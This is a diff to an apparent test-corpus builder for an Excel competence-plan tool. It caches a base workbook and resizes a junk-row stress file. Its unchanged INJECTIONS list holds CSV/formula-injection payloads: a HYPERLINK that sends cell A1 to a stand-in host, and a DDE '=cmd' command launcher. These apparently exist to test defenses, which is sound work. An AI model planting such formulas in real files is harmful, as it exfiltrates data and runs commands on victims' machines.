@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import io
 import re
+import shutil
 import sys
 import tempfile
 import zipfile
@@ -30,6 +31,7 @@ import office  # noqa: E402
 from conftest import set_cells  # noqa: E402
 
 from xlkompetence.core import examples  # noqa: E402
+from xlkompetence.unit.sheettables import MAX_FINDINGS_PER_CODE  # noqa: E402
 from xlkompetence.unit.template import write_unit_workbook  # noqa: E402
 from xlkompetence.xlsx.patch import CellWrite, Mode, SheetEdits, patch_workbook  # noqa: E402
 
@@ -38,11 +40,17 @@ A, B, C, D, E, F = ("Mål og kompetenceprofil", "Kompetencebehov", "Individuelle
                     "Plan for kompetenceudvikling", "Forankring", "Forside")
 INJECTIONS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Klik her")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
               "@SUM(1,2)", "=1+1"]
+# Rows of junk: ten times the findings listed per kind and sheet, so most must be counted
+# instead (findings.more). A bigger sheet proves nothing more.
+JUNK_ROWS = 10 * MAX_FINDINGS_PER_CODE
 
 
 def example(path: Path) -> Path:
-    write_unit_workbook(path, examples.concept_example(), today=TODAY)
-    return path
+    """The concept's example, written once per corpus: every case starts from a copy of it."""
+    base = path.with_name("_base.tmp.xlsx")
+    if not base.exists():
+        write_unit_workbook(base, examples.concept_example(), today=TODAY)
+    return Path(shutil.copy(base, path)) if path != base else base
 
 
 def typed(path: Path, values: dict[tuple[str, str], object]) -> Path:
@@ -135,9 +143,9 @@ def build(target: Path, libreoffice: office.LibreOffice | None = None) -> dict[s
         rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:XFD1048576"/>', d) if n.startswith("xl/worksheets/") else d))
     far = typed(example(target / "fjern-celle.xlsx"), {(D, "XFD1048576"): "langt ude"})
     put("far_cell", far)
-    junk = example(target / "100000-rækker.xlsx")
+    junk = example(target / f"{JUNK_ROWS}-rækker.xlsx")
     edits = SheetEdits({(r, c): CellWrite(f"skrald {r}-{c}" if c != 10 else "???", Mode.OWNED)
-                        for r in range(5, 100_005) for c in (1, 3, 10)})
+                        for r in range(5, 5 + JUNK_ROWS) for c in (1, 3, 10)})
     tmp = junk.with_suffix(".tmp")
     patch_workbook(junk, tmp, {D: edits})
     tmp.replace(junk)
